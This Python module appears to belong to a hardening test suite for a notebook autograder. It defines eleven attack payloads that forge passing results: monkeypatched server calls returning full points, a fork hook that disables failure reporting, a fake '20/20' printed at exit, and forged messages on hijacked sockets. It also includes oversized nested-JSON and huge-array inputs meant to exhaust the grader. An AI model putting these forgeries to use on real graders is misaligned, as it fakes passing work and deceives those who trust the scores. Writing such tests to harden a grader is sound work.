"""Forgeries by what the student's side says over the protocol: its code may change that at will."""

from tools.attack.attack import Attack

__all__ = ["CONNECTION"]

_ANSWERS = """\
import nbautograde.isolated_tests.student_server as student


def forged(self, *args, **options):
    return {"value": True, "outputs": [], "gone": "", "passed": True, "points": 5.0, "graph": 0}


student._Server._do_call = student._Server._do_run = student._Server._do_backward = forged
"""

_KINDS = """\
import nbautograde.protocol.encoder as packing


def node(self, value, depth=0):
    return {"t": [{"o": ["float", None]}, {"n": "<f8"}, {"Equal": True}]}


packing.Encoder.node = node
"""

_EXCEPTIONS = """\
import nbautograde.isolated_tests.student_server as student


def forged(self, *args, **options):
    return {"error": SystemExit(0), "value": None}


class SystemExit(Exception):
    pass


student._Server._do_call = student._Server._do_run = forged
"""

_CALLBACKS = """\
import nbautograde.isolated_tests.student_server as student


def forged(self, *args, **options):
    self._line.send({"callback": -1, "args": ["import os"]})
    return {"callback": True, "args": [], "value": True}


student._Server._do_call = forged
"""

_RAW_BYTES = """\
import os
import socket
import stat

for number in range(3, 200):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            with socket.socket(fileno=os.dup(number)) as one:
                if one.family == socket.AF_UNIX:
                    one.setblocking(False)
                    one.send(b'{"outputs": [], "gone": "", "value": true}\\n')
    except OSError:
        continue
return 0.0
"""

_FRAME = """\
import struct

import nbautograde.isolated_tests.student_server as student


def forged(self, *args, **options):
    self._line._sock.sendall(struct.pack(">4sIQ", b"2rm2", len(header), 0) + header)
    return {}


student._Server._do_call = student._Server._do_defined = forged
"""

_AT_FORK = """\
import os


def in_child():
    import grader.checking.failures as report
    import nbautograde.isolated_tests.student_server as student

    report.fail.__code__ = (lambda *args, **options: None).__code__
    student._Server._do_call = lambda self, *args, **options: {"value": True}


os.register_at_fork(after_in_child=in_child)
"""

_AT_EXIT = """\
import atexit


def right(result):
    result.error_in_exec, result.result = None, 5.0


atexit.register(lambda: print("20/20"))
get_ipython().events.register("post_run_cell", right)
"""

_CONNECTS = """\
import os
import socket
import struct
import threading
import time

header = b'{"value": [true, true]}'
frame = struct.pack(">4sIQ", b"2rm2", len(header), 0) + header


def connect(end):
    while time.monotonic() < end:
        for folder, _, names in os.walk(os.environ.get("HOME", "/tmp")):
            if "room" in names:
                with socket.socket(socket.AF_UNIX) as one:
                    try:
                        one.connect(os.path.join(folder, "room"))
                        one.sendall(frame * 1000)
                        time.sleep(0.1)
                    except OSError:
                        continue
        time.sleep(0.0005)


threading.Thread(target=connect, args=(time.monotonic() + 5,), daemon=True).start()
"""


def _forges(says, first, body=""):
    return Attack(says, "forgery", first, body)


CONNECTION = {
    "forged-answers": _forges("its side answers every call with all that could pass for an answer", _ANSWERS),
    "forged-kinds": _forges("its side speaks of kinds of values that there are not", _KINDS, "return 0.0"),
    "forged-exceptions": _forges("its side says that something harmless was raised", _EXCEPTIONS),
    "forged-callbacks": _forges("its side has the test runner call what it never handed out", _CALLBACKS),
    "raw-bytes": _forges("writes the worker's own messages on every socket that it has", "", _RAW_BYTES),
    "deep-json": _forges(
        "its side sends 900,000 lists inside each other",
        f"header = b'{{\"value\": ' + b'[' * 900_000 + b']' * 900_000 + b'}}'\n{_FRAME}",
    ),
    "claims-a-huge-array": _forges(
        "its side announces an array of 10^18 numbers",
        f'header = b\'{{"value": {{"a": ["<f8", [1000000000000000000, 0]]}}}}\'\n{_FRAME}',
    ),
    "fork-hook": _forges("changes each copy of its process as soon as there is one", _AT_FORK),
    "no-fork": _forges(
        "serves from the kernel itself, where a later cell sees what came",
        "import os\n\nos.fork = lambda: 0\nos._exit = lambda status: None\n",
        "return 0.0",
    ),
    "at-exit": _forges("prints a grade when its process ends, and forges each cell's result", _AT_EXIT),
    "two-connections": _forges("connects to the test runner before its side does", _CONNECTS, "return True"),
}
"""Attacks by id."""
